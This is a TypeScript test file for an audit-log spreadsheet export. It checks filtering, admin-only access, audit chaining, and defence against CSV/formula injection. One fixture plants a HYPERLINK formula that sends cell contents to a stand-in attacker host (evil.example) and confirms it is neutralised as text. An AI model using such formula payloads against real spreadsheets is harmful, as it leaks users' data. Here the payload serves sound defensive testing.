import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeAudit } from '../../server/audit/auditLog';
import { verifyAuditChain } from '../../server/audit/auditLog';
import { startTestServer, type TestServer } from './support/testServer';

// A4: the audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
describe('audit export (A4)', () => {
  let s: TestServer;
  let admin: string;
  const injected = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';

  async function download(query: string, token = admin) {
    const res = await fetch(`${s.url}/api/v1/audit/export${query}`, { headers: { authorization: `Bearer ${token}` } });
    return { res, bytes: Buffer.from(await res.arrayBuffer()) };
  }

  async function readSheet(bytes: Buffer) {
    const wb = new ExcelJS.Workbook();
    // exceljs' typings want its own Buffer flavour; a Node Buffer is what it reads.
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no worksheet');
    const rows: unknown[][] = [];
    ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return { ws, rows };
  }

  beforeAll(async () => {
    s = await startTestServer();
    await s.addStaff('anna', 'Geheim!2026', ['admin'], 'Anna Bakker');
    await s.addStaff('karin', 'Geheim!2026', ['kcc', 'kcc-admin']);
    await s.addStaff('pieter', 'Geheim!2026', ['kcc']);
    admin = await s.signIn('anna', 'Geheim!2026', '10.1.1.1');
    await s.api('POST', '/ip-ranges', { token: admin, body: { cidr: '10.0.0.0/8', admin: true, kcc: true, description: '+31 kantoor' }, from: '10.1.1.1' });
    await s.api('POST', '/ip-ranges', { token: admin, body: { cidr: '192.168.0.0/16', admin: false, kcc: true }, from: '10.1.1.1' });
    // An attacker-chosen name (e.g. a username typed at sign-in) that a spreadsheet would run as a formula.
    await writeAudit(s.store.db, {
      at: s.clock.now().toISOString(),
      actorId: null,
      actor: injected,
      roles: [],
      action: 'staff.sign_in_failed',
      sourceAddress: '10.9.9.9',
      details: { note: '@SUM(1)' },
    });
  });
  afterAll(async () => s.close());

  it('returns a valid workbook with a header row and exactly the filtered entries, newest first', async () => {
    const { res, bytes } = await download('?action=ip_range.');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="auditlogboek-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const { rows } = await readSheet(bytes);
    expect(rows[0]).toEqual(['Nr.', 'Tijdstip (Amsterdam)', 'Medewerker', 'Rollen', 'Actie', 'Doel', 'Klantnummer', 'IP-adres', 'Meekijksessie', 'Details']);
    const body = rows.slice(1);
    expect(body).toHaveLength(2);
    expect(body.map((r) => r[4])).toEqual(['ip_range.create', 'ip_range.create']);
    expect(body.map((r) => r[2])).toEqual(['anna', 'anna']);
    expect(body.map((r) => r[7])).toEqual(['10.1.1.1', '10.1.1.1']);
    expect(Number(body[0]?.[0])).toBeGreaterThan(Number(body[1]?.[0]));
    expect(body[0]?.[1]).toBeInstanceOf(Date);
    expect(JSON.parse(String(body[0]?.[9]))).toMatchObject({ cidr: '192.168.0.0/16', admin: false, kcc: true });
  });

  it('filters by actor like the list does', async () => {
    // The list first: the export's own entry is written after its rows were read.
    const list = await s.api('GET', '/audit?actor=anna&pageSize=100', { token: admin });
    const { rows } = await readSheet((await download('?actor=anna')).bytes);
    expect(rows.length - 1).toBe(list.body.total);
    expect(rows.slice(1).every((r) => r[2] === 'anna')).toBe(true);
  });

  it('makes an injected formula harmless: text with a leading apostrophe, no formula cell', async () => {
    const { ws, rows } = await readSheet((await download('?action=staff.sign_in_failed')).bytes);
    expect(rows).toHaveLength(2);
    const actorCell = ws.getRow(2).getCell(3);
    expect(actorCell.type).toBe(ExcelJS.ValueType.String);
    expect(actorCell.value).toBe(`'${injected}`);
    expect(actorCell.formula).toBeUndefined();
    // The details JSON starts with "{", so it stays as it is.
    expect(ws.getRow(2).getCell(10).value).toBe('{"note":"@SUM(1)"}');
  });

  it('records the export itself (action audit.export, with the filters) and keeps the chain intact', async () => {
    await download('?customerNumber=hm-000001');
    const res = await s.api('GET', '/audit?action=audit.export', { token: admin });
    const items = res.body.items as unknown as Array<{ actor: string; details: { filters: Record<string, unknown>; rows: number } }>;
    expect(items[0]?.actor).toBe('anna');
    expect(items[0]?.details.filters).toMatchObject({ customerNumber: 'hm-000001' });
    expect(items[0]?.details.rows).toBe(0);
    expect((await verifyAuditChain(s.store)).ok).toBe(true);
  });

  it('is for admin and kcc-admin only, and checks the filters', async () => {
    const kccAdmin = await s.signIn('karin', 'Geheim!2026');
    expect((await download('', kccAdmin)).res.status).toBe(200);
    const kcc = await s.signIn('pieter', 'Geheim!2026');
    expect((await download('', kcc)).res.status).toBe(403);
    expect((await download('?from=gisteren')).res.status).toBe(400);
  });
});
